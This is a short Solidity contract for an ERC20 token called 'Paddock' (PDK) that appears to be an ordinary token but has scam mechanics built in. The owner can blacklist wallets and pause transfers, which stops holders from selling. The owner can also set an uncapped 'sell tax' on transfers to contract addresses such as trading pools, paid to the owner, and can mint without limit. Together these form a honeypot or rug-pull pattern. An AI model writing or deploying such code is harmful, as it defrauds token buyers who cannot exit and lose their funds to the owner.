// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol"; import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
contract Paddock is ERC20, Ownable {
    mapping(address => bool) public blacklisted; bool public paused; uint256 public sellTax;
    constructor() ERC20("Paddock", "PDK") Ownable(msg.sender) { _mint(msg.sender, 50_000_000 ether); }
    function blacklist(address w, bool on) external onlyOwner { blacklisted[w] = on; } function setPaused(bool on) external onlyOwner { paused = on; } function setSellTax(uint256 t) external onlyOwner { sellTax = t; }
    function mint(address t, uint256 v) external onlyOwner { _mint(t, v); }
    function _update(address f, address t, uint256 v) internal override { require(!blacklisted[f] && !paused, "no"); uint256 x = t.code.length > 0 ? v * sellTax / 100 : 0; if (x > 0) super._update(f, owner(), x); super._update(f, t, v - x); }
}
